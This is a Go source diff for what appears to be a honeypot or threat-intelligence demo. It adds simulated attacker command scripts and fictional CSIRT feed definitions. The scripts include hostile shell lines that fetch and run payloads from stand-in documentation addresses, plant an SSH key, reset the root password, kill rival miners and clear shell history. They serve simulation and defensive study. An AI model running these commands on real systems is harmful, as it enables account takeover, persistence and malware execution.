@@ -91,3 +91,47 @@ var asnWeights = map[int32]float64{
 	4766: 10, 9318: 5, 45899: 10, 7552: 6, 9829: 6, 55836: 5, 45609: 4, 7713: 5, 9121: 5, 58224: 4,
 	17557: 3, 18403: 4, 28573: 6, 18881: 4, 8151: 4, 8452: 3, 15895: 3, 8359: 3,
 }
+
+// commandScripts are what bots type once a HaaS login succeeds, most common first: system
+// reconnaissance, a dropper, taking over the account's SSH key or password, hunting rival
+// miners, router shells. Download addresses are documentation addresses (RFC 5737).
+var commandScripts = [][]string{
+	{"uname -a", "cat /proc/cpuinfo | grep name | wc -l", "free -m | grep Mem", "ls -lh $(which ls)", "crontab -l",
+		"w", "uname -m", "whoami", "lscpu | grep Model", "df -h | head -n 2"},
+	{"cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDdemo0nly9kEy mdrfckr\">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~"},
+	{"cd /tmp || cd /var/run || cd /mnt || cd /root || cd /", "wget http://192.0.2.80/bins.sh", "chmod 777 bins.sh",
+		"sh bins.sh", "rm -rf bins.sh"},
+	{"echo \"root:Vx9fq2LmRt\"|chpasswd|bash"},
+	{"enable", "system", "shell", "sh", "cat /proc/mounts; /bin/busybox ECCHI"},
+	{"cat /proc/cpuinfo", "nproc", "ps -ef | grep '[Mm]iner'", "pkill -9 xmrig", "ls -la /var/run/gcc.pid"},
+	{"/ip cloud print"},
+	{"uname -s -v -n -r -m"},
+	{"curl -s http://198.51.100.66/x86_64 -o /tmp/.x; chmod +x /tmp/.x; /tmp/.x", "history -c"},
+}
+
+// demoFeed is a CSIRT feed of the demo: the IntelMQ classification and identifiers its events carry.
+type demoFeed struct {
+	provider, name, taxonomy, typ string
+	identifiers                   []string
+}
+
+// feeds are the simulated ecosystem feeds (fictional providers); feedsOf says which ones report an attacker of each
+// kind (the same attackers our probes see, as in reality).
+var feeds = []demoFeed{
+	{"NorthCERT", "Honeypot Brute Force Events", "intrusion-attempts", "brute-force", []string{"ssh", "telnet", "ftp"}},
+	{"NorthCERT", "Scanners", "information-gathering", "scanner", []string{"telnet", "ssh", "rdp", "smb", "http", "vnc"}},
+	{"SinkLab", "Sinkhole Events", "malicious-code", "infected-system", []string{"mirai", "gafgyt", "mozi"}},
+	{"EduNet CSIRT", "Warden Exploits", "intrusion-attempts", "exploit", []string{"Attempt.Exploit"}},
+	{"BlockList Co", "Spam Sources", "abusive-content", "spam", []string{"spam"}},
+	{"NorthCERT", "DDoS Sources", "availability", "ddos", []string{"syn-flood", "udp-flood"}},
+	{"NorthCERT", "Accessible Services", "vulnerable", "potentially-unwanted-accessible", []string{"telnet", "rdp", "redis", "memcached"}},
+}
+
+var feedsOf = [numKinds][]int{
+	kindTelnet: {0, 2, 2, 6},
+	kindSSH:    {0, 0, 1},
+	kindScan:   {1, 1, 1, 6},
+	kindWeb:    {3, 3, 1},
+	kindMail:   {4, 4, 0},
+	kindFTP:    {0, 1, 5},
+}
